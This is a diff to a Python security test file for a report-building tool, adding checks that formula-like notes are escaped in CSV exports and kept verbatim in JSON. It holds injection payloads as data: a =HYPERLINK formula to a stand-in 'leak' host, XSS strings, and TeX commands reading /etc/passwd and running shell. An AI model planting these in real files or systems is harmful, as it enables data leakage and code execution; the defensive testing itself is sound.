@@ -1,11 +1,14 @@
 """User text is data: markup in notes, hypotheses, the bibliography and build.yml comes out escaped in
-the built report and index; TeX in a BibTeX field is shown, never run or read; YAML object tags,
-paths out of the project and parameter values holding code are refused before anything runs."""
+the built report and index; a formula in a note is neutralised in every CSV and kept as written in
+the JSON; TeX in a BibTeX field is shown, never run or read; YAML object tags, paths out of the
+project and parameter values holding code are refused before anything runs."""
 
 from __future__ import annotations
 
 import contextlib
+import csv
 import io
+import json
 import shutil
 from html.parser import HTMLParser
 from pathlib import Path
@@ -30,6 +33,19 @@ PAYLOADS = {
     "review-title": '"><script>alert("review-title")</script>',
     "variant-title": '<img src=x onerror=alert("variant-title")>',
 }
+#: findings added to doe2020 whose statement (or quote) begins with what a spreadsheet runs as a formula;
+#: the note schema strips leading whitespace, so the tab and carriage return ones reach the data as
+#: the formula behind them (the writer's own handling of a leading tab or CR: tests/synthesis/test_export.py)
+FORMULAS = {
+    "f3": '=HYPERLINK("http://example.invalid/?leak","statement")',
+    "f4": "+1+1 in a statement",
+    "f5": "-1+1 in a statement",
+    "f6": "@SUM(1+1) in a statement",
+    "f7": "\t=1+1 after a tab",
+    "f8": "\r=1+1 after a carriage return",
+}
+FORMULA_QUOTE = '=HYPERLINK("http://example.invalid/?leak","quote")'
+FORMULA_QUESTION = "=1+1 or is it the marker?"
 TEX = {"title": r"An example trial \input{/etc/passwd}", "journal": r"Journal of \write18{touch pwned} Examples"}
 SECTIONS = ["title", "hypothesis", "summary", "evidence_table", "predictions", "open_questions", "references",
             "provenance", "how_to_cite"]
@@ -84,6 +100,15 @@ def _notebook() -> nbformat.NotebookNode:
     return nb
 
 
+def _formula_findings() -> str:
+    """YAML for the FORMULAS findings (JSON strings are YAML double-quoted strings) and one quoting FORMULA_QUOTE."""
+    items = [f"  - id: {fid}\n    statement: {json.dumps(text)}\n    hypothesis: example-fatigue\n    direction: neutral\n"
+             f"    kind: inferred\n    extracted_from: Doe 2020, discussion\n" for fid, text in FORMULAS.items()]
+    items.append(f"  - id: f9\n    statement: The quote is a formula.\n    hypothesis: example-fatigue\n    direction: neutral\n"
+                 f"    kind: observed\n    quote: {json.dumps(FORMULA_QUOTE)}\n    locator: paragraph 3\n")
+    return "".join(items)
+
+
 def _hostile_project(where: Path) -> tuple[Path, Path]:
     root, sources = where / "project", where / "sources"
     shutil.copytree(BASE, root, ignore=shutil.ignore_patterns(SOURCES))
@@ -92,7 +117,10 @@ def _hostile_project(where: Path) -> tuple[Path, Path]:
                       root / "bib/references.bib")
     _edit(note, "statement: The authors read it as a source of fatigue.", f"statement: {_yaml(PAYLOADS['statement'])}")
     _edit(note, """quote: the marker was "clearly higher" in patients' blood""", f"quote: {_yaml(PAYLOADS['quote'])}")
-    (sources / "doe2020.txt").write_text(f"An invented source.\n\nIt says {PAYLOADS['quote']} in paragraph 2.\n", encoding="utf-8")
+    (sources / "doe2020.txt").write_text(f"An invented source.\n\nIt says {PAYLOADS['quote']} in paragraph 2.\n\n"
+                                         f"It says {FORMULA_QUOTE} in paragraph 3.\n", encoding="utf-8")
+    _edit(note, "remaining_questions:\n", _formula_findings() + "remaining_questions:\n"
+          f"  - id: q-example-formula\n    text: {json.dumps(FORMULA_QUESTION)}\n")
     (root / "reviews/quote-record.json").unlink()  # the source text is new: its quote is verified afresh
     _edit(hyp, "text: Which dose of the example drug matters?", f"text: {_yaml(PAYLOADS['question'])}")
     _edit(hyp, "claim: Fatigue follows from an example mechanism.", f"claim: {_yaml(PAYLOADS['claim'])}")
@@ -146,6 +174,45 @@ def test_markup_in_user_text_is_shown_as_text_and_never_runs(built):
     index = " ".join(pages["index.html"].text)
     for place in ("review-title", "hypothesis-title"):
         assert PAYLOADS[place] in index, f"the {place} is not shown as text in the index"
+
+
+def _csv_rows(path: Path) -> list[dict]:
+    with path.open(encoding="utf-8", newline="") as handle:
+        return list(csv.DictReader(handle))
+
+
+def _json_rows(path: Path) -> list[dict]:
+    data = json.loads(path.read_text(encoding="utf-8"))
+    return data if isinstance(data, list) else data["rows"]
+
+
+@pytest.mark.slow
+def test_a_formula_in_a_note_is_neutralised_in_every_csv_and_kept_in_the_json(built):
+    _, root = built
+    outputs = root / "outputs"
+    for variant in ("all", "pem-required"):
+        folder = outputs / "example-fatigue" / variant
+        csv_rows = {r["finding_id"]: r for r in _csv_rows(folder / "evidence.csv") if r["key"] == "doe2020"}
+        json_rows = {r["finding_id"]: r for r in _json_rows(folder / "evidence.json") if r["key"] == "doe2020"}
+        for fid, text in FORMULAS.items():
+            written = text.strip()  # as the note schema holds it
+            assert csv_rows[fid]["statement"] == "'" + written, f"{variant} {fid}: the statement is not neutralised"
+            assert json_rows[fid]["statement"] == written, f"{variant} {fid}: the JSON does not keep the statement"
+        assert csv_rows["f9"]["quote"] == "'" + FORMULA_QUOTE and json_rows["f9"]["quote"] == FORMULA_QUOTE
+        assert csv_rows["f1"]["quote"] == json_rows["f1"]["quote"] == PAYLOADS["quote"]  # not a formula: as is
+        questions = {r["question_id"]: r["text"] for r in _csv_rows(folder / "open-questions.csv")}
+        assert questions["q-example-formula"] == "'" + FORMULA_QUESTION
+        assert {r["question_id"]: r["text"] for r in _json_rows(folder / "open-questions.json")}[
+            "q-example-formula"] == FORMULA_QUESTION
+    register = {r["question_id"]: r["text"] for r in _csv_rows(outputs / "open-questions.csv")}
+    assert register["q-example-formula"] == "'" + FORMULA_QUESTION, "the register CSV keeps a formula"
+    assert {r["question_id"]: r["text"] for r in _json_rows(outputs / "open-questions.json")}[
+        "q-example-formula"] == FORMULA_QUESTION
+    for path in outputs.rglob("*.csv"):  # no cell of any published CSV begins with what a spreadsheet runs
+        with path.open(encoding="utf-8", newline="") as handle:
+            rows = list(csv.reader(handle))
+        for row in rows:
+            assert not [c for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")], f"{path.relative_to(outputs)}: {row}"
 
 
 @pytest.mark.slow
